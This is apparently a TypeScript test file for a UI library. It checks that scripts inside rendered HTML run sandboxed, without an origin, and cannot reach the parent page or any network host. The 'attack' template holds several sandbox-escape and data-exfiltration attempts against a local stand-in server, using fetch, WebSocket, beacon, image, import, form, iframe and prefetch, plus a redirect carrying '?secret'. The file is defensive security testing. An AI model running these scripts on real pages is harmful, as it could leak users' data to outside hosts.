/** HTML whose author lets its scripts run: they do, and reach nothing. */
import { createServer } from "node:http";
import type { AddressInfo } from "node:net";
import { FnNode, Graph, gr } from "daggr";
import { expect, test } from "vitest";
import { openCanvas } from "./open-canvas.ts";

const png = Buffer.from(
  "iVBORw0KGgoAAAANSUhEUgAAAAIAAAACCAIAAAD91JpzAAAAEElEQVR4nGP4z8AARAwQCgAf7gP9i18U1AAAAABJRU5ErkJggg==",
  "base64",
);

/** Tries everything that it should not be able to do, and says what came of it. */
const attack = (host: string) => `
<h1>Before</h1>
<button onclick="this.textContent = 'pressed'">press</button>
<script>document.querySelector("h1").textContent = "The script ran";</script>
<script>
(async () => {
  const said = {};
  const tried = async (name, work) => { try { said[name] = String(await work()); } catch (error) { said[name] = "refused: " + error.name; } };
  const patient = (work) => Promise.race([work(), new Promise((done) => setTimeout(done, 1500, "nothing came"))]);
  said.origin = String(self.origin);
  await tried("parent", () => { parent.owned = "parent"; return parent.document.title; });
  await tried("top", () => { top.location.href = "${host}/top"; return "went"; });
  await tried("cookie", () => { document.cookie = "a=b"; return document.cookie; });
  await tried("storage", () => localStorage.length);
  await tried("database", () => patient(() => new Promise((yes, no) => { const open = indexedDB.open("a"); open.onsuccess = () => yes("open"); open.onerror = () => no(open.error); })));
  await tried("caches", () => caches.keys());
  await tried("fetch", () => fetch("${host}/fetch"));
  await tried("api", () => fetch("/api/health", { mode: "no-cors" }));
  await tried("socket", () => patient(() => new Promise((yes, no) => { const socket = new WebSocket("${host.replace("http", "ws")}/socket"); socket.onopen = () => yes("open"); socket.onerror = () => no(new DOMException("", "Closed")); })));
  await tried("beacon", () => navigator.sendBeacon("${host}/beacon", "a"));
  await tried("image", () => patient(() => new Promise((yes, no) => { const image = new Image(); image.onload = () => yes("loaded"); image.onerror = () => no(new DOMException("", "Failed")); image.src = "${host}/image"; })));
  await tried("script", () => patient(() => import("${host}/script.js")));
  await tried("worker", () => patient(() => new Promise((yes, no) => { const worker = new Worker(URL.createObjectURL(new Blob(["postMessage(1)"]))); worker.onmessage = () => yes("ran"); worker.onerror = () => no(new DOMException("", "Failed")); })));
  await tried("popup", () => open("${host}/popup"));
  await tried("peer", () => new RTCPeerConnection());
  const form = document.createElement("form"); form.action = "${host}/form"; document.body.append(form); form.submit();
  const frame = document.createElement("iframe"); frame.src = "${host}/frame"; document.body.append(frame);
  const link = document.createElement("link"); link.rel = "prefetch"; link.href = "${host}/prefetch"; document.head.append(link);
  const out = document.createElement("pre"); out.id = "said"; out.textContent = JSON.stringify(said); document.body.append(out);
})();
</script>`;

test("scripts of HTML run where its author asks for it, without an origin, and reach neither the page nor any host", async () => {
  const asked: string[] = [];
  const host = createServer((request, response) => {
    asked.push(request.url ?? "");
    response.setHeader("access-control-allow-origin", "*").end("hello");
  });
  await new Promise<void>((done) => host.listen(0, "127.0.0.1", done));
  const address = `http://127.0.0.1:${(host.address() as AddressInfo).port}`;
  const graph = () =>
    new Graph({
      name: "Scripts",
      nodes: [
        new FnNode(
          () => ({
            runs: attack(address),
            leaves: `<p>going</p><script>setTimeout(() => { location.href = "${address}/leave?secret"; }, 50)</script>`,
            still: "<h1>Still</h1><script>document.querySelector('h1').textContent = 'Ran'</script>",
          }),
          {
            name: "speak",
            outputs: {
              runs: gr.HTML({ label: "Runs", scripts: true }),
              leaves: gr.HTML({ label: "Leaves", scripts: true }),
              still: gr.HTML({ label: "Still" }),
            },
          },
        ),
      ],
    });
  try {
    await using canvas = await openCanvas(graph, {
      viewport: { width: 1280, height: 1200 },
      expectedErrors: [
        /Content Security Policy/,
        /sandboxed/,
        /Unsafe attempt/,
        /script-src/,
        /Failed to load resource/,
      ],
    });
    const { page } = canvas;
    await page.getByRole("button", { name: "Run all", exact: true }).click();
    const frame = page.frameLocator('iframe[title="Runs"]');
    await frame.getByRole("heading", { name: "The script ran" }).waitFor();
    await frame.getByRole("button", { name: "press" }).click();
    await frame.getByRole("button", { name: "pressed" }).waitFor();
    const said = JSON.parse((await frame.locator("#said").textContent()) ?? "") as Record<string, string>;
    expect(said).toMatchObject({
      origin: "null",
      parent: "refused: SecurityError",
      top: expect.stringMatching(/^refused/),
      cookie: "refused: SecurityError",
      storage: "refused: SecurityError",
      database: expect.stringMatching(/^refused/),
      caches: expect.stringMatching(/^refused/),
      fetch: "refused: TypeError",
      api: "refused: TypeError",
      socket: expect.stringMatching(/^refused/),
      image: "refused: Failed",
      script: expect.stringMatching(/^refused/),
      worker: "refused: Failed",
      popup: "null",
      peer: "refused: ReferenceError",
    });
    await page.waitForTimeout(600);
    expect(asked).toEqual([]);
    expect(await page.evaluate(() => (window as { owned?: string }).owned)).toBeUndefined();
    expect(new URL(page.url()).origin).toBe(new URL(canvas.url).origin);
    await page.frameLocator('iframe[title="Still"]').getByRole("heading", { name: "Still" }).waitFor();
    const opened = await page.request.get(new URL("/frame", canvas.url).href);
    expect(opened.headers()["content-security-policy"]).toContain("sandbox allow-scripts;");
    expect(opened.headers()["content-security-policy"]).toContain("default-src 'none'");
  } finally {
    host.close();
  }
});

test("a file of the server that HTML names is shown, with scripts and without", async () => {
  const graph = () => {
    const show = new FnNode(
      ({ address }: { address: string }) => {
        const html = `<img src="${address}" alt="two by two"><div style="width:9px;height:9px;background:url(${address})"></div>`;
        return { still: html, runs: html };
      },
      {
        name: "show",
        inputs: { address: gr.Textbox({ label: "Address", maxLines: 1 }) },
        outputs: {
          still: gr.HTML({ label: "Still" }),
          runs: gr.HTML({ label: "Runs", scripts: true }),
        },
      },
    );
    return new Graph({ name: "Pictures", nodes: [show] });
  };
  await using canvas = await openCanvas(graph);
  const { page } = canvas;
  const url = await page.evaluate(
    async (bytes) => {
      const body = new FormData();
      body.append("file", new File([Uint8Array.from(bytes)], "two by two.png", { type: "image/png" }));
      return ((await (await fetch("/api/files", { method: "POST", body })).json()) as { url: string }).url;
    },
    [...png],
  );
  await page.getByRole("textbox", { name: "Address" }).fill(url);
  await page.getByRole("button", { name: "Run show", exact: true }).click();
  for (const title of ["Still", "Runs"]) {
    const image = page.frameLocator(`iframe[title="${title}"]`).getByRole("img", { name: "two by two" });
    await expect.poll(() => image.evaluate((element: HTMLImageElement) => element.naturalWidth)).toBe(2);
  }
});
